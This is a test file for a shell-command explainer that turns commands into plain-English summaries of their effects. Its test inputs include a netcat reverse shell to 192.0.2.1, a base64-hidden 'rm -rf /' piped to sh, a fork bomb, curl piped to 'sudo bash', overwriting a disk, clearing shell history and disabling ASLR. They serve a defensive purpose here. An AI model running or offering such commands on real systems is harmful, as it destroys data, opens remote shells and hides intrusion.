import { describe, expect, it } from 'vitest';
import { explain } from '../../../src/shell/explain/explain.js';

const summaries: readonly (readonly [command: string, summary: string])[] = [
  ['rm -rf /var/log/nginx', 'Deletes /var/log/nginx and all that is below it.'],
  [
    'sudo rm -rf /var/log/nginx && sudo systemctl restart nginx',
    'Deletes /var/log/nginx and all that is below it, as root. Then restarts the service nginx.',
  ],
  [
    "ssh root@web-1 'rm -rf /var/log/nginx; systemctl restart nginx'",
    'Deletes /var/log/nginx and all that is below it, as root on web-1. Then restarts the service nginx, there too.',
  ],
  ['ls -la /etc', 'Lists files.'],
  ['ps aux | grep nginx | wc -l', 'Tells what runs and hands that through grep and wc.'],
  [
    'cat /etc/passwd | cut -d: -f1 | sort > users.txt',
    'Prints files: reads /etc/passwd and hands that through cut and sort, and writes what it prints to users.txt.',
  ],
  ['find /var/log -name "*.log" -mtime +7 -delete', 'Deletes what matches /var/log/**/*.log, at any depth.'],
  ['find . -name "*.tmp" -exec rm -f {} \\;', 'Deletes **/*.tmp, at any depth.'],
  [
    'tar -czf backup.tgz /etc',
    'Packs files into an archive or unpacks them: reads /etc and all that is below it and writes backup.tgz.',
  ],
  [
    'cp -r /etc /backup',
    'Copies files: reads /etc and all that is below it and writes /backup and perhaps /backup/etc and all that is below them.',
  ],
  ['mv a.txt b.txt', 'Moves or renames files: moves a.txt away and writes b.txt.'],
  ['chmod -R 777 /var/www', 'Lets everybody change /var/www and all that is below it.'],
  ['chown -R www-data:www-data /srv', 'Changes the owner of /srv and all that is below it.'],
  [
    'echo "nameserver 1.1.1.1" | sudo tee -a /etc/resolv.conf',
    'Prints its words. Hands that to tee, which copies what it reads to files and on: adds to /etc/resolv.conf, as root.',
  ],
  [
    'curl -fsSL https://get.example.com/install.sh | sudo bash',
    'Downloads from get.example.com. Hands that to bash, which runs what was downloaded, as root.',
  ],
  [
    'curl -o /tmp/x https://example.com/x && bash /tmp/x',
    'Writes /tmp/x and downloads from example.com. Then runs what was downloaded (/tmp/x).',
  ],
  ['wget https://example.com/a.tgz', 'Downloads from example.com and writes a.tgz.'],
  ['apt-get update && apt-get install -y nginx', 'Refreshes the lists of packages. Then installs the package nginx.'],
  ['systemctl stop sshd', 'Stops the service sshd.'],
  ['systemctl status nginx', 'Shows the state of units.'],
  ['docker exec web sh -c "rm -rf /tmp/*"', 'Deletes /tmp/* and all that is below it, in the container web.'],
  [
    'docker run --rm -v /:/host alpine rm -rf /host/etc',
    'Starts a container of alpine and can reach the machine beyond its confinement (/). Then deletes /etc and all that is below it.',
  ],
  ['docker ps -a', 'Lists containers.'],
  ['apt-get -y upgrade', 'Upgrades all packages.'],
  [
    'case $1 in start) systemctl start nginx;; *) echo usage;; esac',
    'If $1 is start, starts the service nginx. Then otherwise, prints its words.',
  ],
  ['case $1 in *) rm a;; esac', 'Whatever $1 is, deletes a.'],
  ['kubectl get pods -A', 'Lists resources.'],
  ['kubectl delete namespace production', 'Deletes resources with all that is in them (namespace production).'],
  ['git status', 'Looks at or tidies the repository.'],
  ['git push --force origin main', 'Replaces history elsewhere (origin main).'],
  ['dd if=/dev/zero of=/dev/sda bs=1M', 'Copies blocks of data: reads /dev/zero and writes /dev/sda.'],
  ['mkfs.ext4 /dev/sdb1', 'Formats /dev/sdb1, with all that is on it lost.'],
  ['iptables -F', 'Switches the firewall off (all rules).'],
  ['useradd bob', 'Adds the user bob.'],
  ['passwd -l bob', 'Locks the user bob.'],
  ['crontab -r', 'Deletes what runs later (crontab).'],
  ['history -c', 'Clears the record of what happened (the history of the shell).'],
  [
    'nc -e /bin/sh 192.0.2.1 4444',
    'Hands a program to whoever is connected (192.0.2.1:4444) and hands a shell to another machine (nc). Then opens a shell (sh).',
  ],
  [
    'echo cm0gLXJmIC8K | base64 -d | sh',
    'Prints its words. Hands that through base64 to sh, which runs what was hidden by an encoding (a line). Then deletes / and all that is below it.',
  ],
  ['D=/var/log; rm -rf "$D"/nginx', 'Sets the variable D. Then deletes /var/log/nginx and all that is below it.'],
  ['for f in *.txt; do rm "$f"; done', 'For each value of f, deletes *.txt.'],
  [
    'if [ -f /tmp/x ]; then rm /tmp/x; else touch /tmp/x; fi',
    'If “[ -f /tmp/x ]” succeeds, deletes /tmp/x. Or else makes /tmp/x.',
  ],
  ['[ -d /srv ] || mkdir /srv', 'If “[ -d /srv ]” fails, makes /srv.'],
  ['while true; do date; done', 'As long as “true” succeeds, prints the time.'],
  ['make || echo failed', 'Builds what files describe. If that fails, prints its words.'],
  ['sleep 10 & wait', 'Waits, in the background. Then looks after jobs.'],
  ['f() { rm -rf "$1"; }; f /etc', 'Defines the function f. Then deletes /etc and all that is below it.'],
  [`python3 -c "import os; os.system('rm -rf /tmp/x')"`, 'Deletes /tmp/x and all that is below it.'],
  ['mysql -e "DROP TABLE users"', 'Deletes a database, a table or an account with all that it holds (table users).'],
  ['reboot', 'Restarts the machine.'],
  ['sudo -u postgres psql -c "select 1"', 'Talks to a database, as postgres.'],
  ['foo --bar', 'Runs the unknown program foo. Not all of it could be seen through.'],
  [
    'frobnicate /etc/shadow && ls',
    'Runs the unknown program frobnicate and reads /etc/shadow, where secrets are. Then lists files. Not all of it could be seen through.',
  ],
  ['$CMD /etc', 'Runs something that is only known when it runs. Not all of it could be seen through.'],
  ['# nothing', 'Does nothing: there is no command in it.'],
  ["echo 'open", 'Prints its words. This cannot be read as a shell command: unterminated single quote.'],
  ["sed -i 's/a/b/' /etc/hosts", 'Edits text line by line: changes /etc/hosts.'],
  ['> /var/log/syslog', 'Empties /var/log/syslog.'],
  [
    ':(){ :|:& };:',
    'Defines the function :. Then calls itself (:) and starts itself (:) again and again until the machine stands still.',
  ],
  ['kill -9 1234', 'Ends process 1234.'],
  ['sysctl -w kernel.randomize_va_space=0', 'Weakens how the kernel protects itself (kernel.randomize_va_space 0).'],
  ['modprobe nbd', 'Loads nbd into the kernel.'],
  ['nginx -t', 'Checks or shows its settings.'],
  ['fdisk -l', 'Shows how disks are divided.'],
  ['ip a', 'Shows interfaces, addresses and routes.'],
  ['iptables -L -n', 'Shows rules for packets.'],
  ['mount', 'Shows what is mounted.'],
  ['dpkg -l', 'Shows packages.'],
  ['docker compose pull', 'Downloads images.'],
  ['docker compose up -d', 'Starts a container.'],
  ['apt-get -y upgrade', 'Upgrades all packages.'],
  [
    'usermod -aG docker deploy',
    'Puts a user into a group with the rights of root (the user deploy and the group docker).',
  ],
  ['cp /srv/a .', 'Copies files: reads /srv/a and writes a.'],
  ['ln -sf /usr/bin/python3 /usr/local/bin/python', 'Makes links to files: writes /usr/local/bin/python.'],
];

describe('the summary of a command', () => {
  it.each(summaries)('%s', (command, summary) => {
    expect(explain(command).summary).toBe(summary);
  });

  it('says as whom all of it runs, when that is known', () => {
    expect(explain('rm /a; rm /b', { user: 'root' }).summary).toBe('Deletes /a, as root. Then deletes /b.');
    expect(explain('rm /a', { profile: { user: { name: 'deploy' } } }).summary).toBe('Deletes /a, as deploy.');
    expect(explain('ssh bob@web rm /a', { user: 'root' }).summary).toBe('Deletes /a, as bob on web.');
  });

  it('says where relative paths lead', () => {
    expect(explain('rm a', { cwd: '/srv' }).summary).toBe('Deletes /srv/a.');
  });

  it('says when the place changes', () => {
    expect(explain('ssh web rm /a; rm /b').summary).toBe('Deletes /a, on web. Then deletes /b, back on this machine.');
    expect(explain('sudo rm /a; rm /b').summary).toBe('Deletes /a, as root. Then deletes /b, no longer as root.');
  });

  it('says what a loop and a function do with each of their words', () => {
    expect(explain('for h in a b; do ssh $h rm /x; done').summary).toBe(
      'For each value of h, deletes /x, on a. Then deletes /x, on b.',
    );
    expect(explain('f() { rm "$1"; }; f /a; f /b').summary).toBe(
      'Defines the function f. Then deletes /a. Then deletes /b.',
    );
  });

  it('stops after a few sentences', () => {
    const many = Array.from({ length: 9 }, (_, index) => `rm /${index}`).join('; ');
    expect(explain(many).summary).toMatch(/Then deletes \/5\. It does 3 more things\.$/);
  });
});

describe('variables that are given', () => {
  it('are followed', () => {
    const variables = { X: 'rm -rf /srv/app' };
    expect(explain('sh -c "$X"', { variables }).summary).toBe('Deletes /srv/app and all that is below it.');
  });
});

describe('what is left out', () => {
  it('is never the worst of many files', () => {
    const { summary } = explain('rm -rf a b c d e f g /etc/nginx h');
    expect(summary).toBe('Deletes /etc/nginx, a, b, c and 5 more and all that is below them.');
  });

  it('is never the worst of many commands', () => {
    const { summary } = explain('date; ls; id; w; df; free; uptime; mkfs.ext4 /dev/sdb1; who');
    expect(summary).toContain('ormats /dev/sdb1');
    expect(summary).toMatch(/It does 3 more things\.$/);
  });

  it('is never the worst of what one command does', () => {
    const { effects, summary } = explain(
      'docker run --privileged --pid=host --network=host -v /:/host -p 80:80 -e A=b --rm x rm -rf /host/etc',
    );
    expect(effects.length).toBeGreaterThan(2);
    expect(summary).toContain('deletes /etc');
  });
});

describe('summaries say what is so', () => {
  it.each([
    [`find /var/log -name '*.log' -mtime +30 -delete`, 'Deletes what matches /var/log/**/*.log, at any depth.'],
    ['find /srv/cache -mtime +30 -delete', 'Deletes what it finds below /srv/cache.'],
    ['find /srv/cache -delete', 'Deletes /srv/cache and all that is below it.'],
    ['apt-get install -y curl git', 'Installs the packages curl and git.'],
    ['cd /srv/app && make', 'Goes to /srv/app. Then builds what files describe.'],
    ['export A=1 B=2', 'Sets the variables A and B.'],
    ['unset A', 'Forgets the variable A.'],
    [`cat <<'E' > /tmp/x\na\nE`, 'Passes on what it reads and writes what it prints to /tmp/x.'],
    ['while ! nc -z db 5432; do sleep 1; done', 'As long as “nc -z db 5432” fails, waits.'],
    [
      'case "$1" in a) systemctl start x;; b) systemctl stop x;; esac',
      'If "$1" is a, starts the service x. If "$1" is b, stops the service x.',
    ],
    [
      'kubectl rollout restart deploy/api',
      'Starts pods anew, one after the other: changes something in the cloud (deploy/api).',
    ],
  ])('%s', (command, summary) => {
    expect(explain(command).summary).toBe(summary);
  });
});
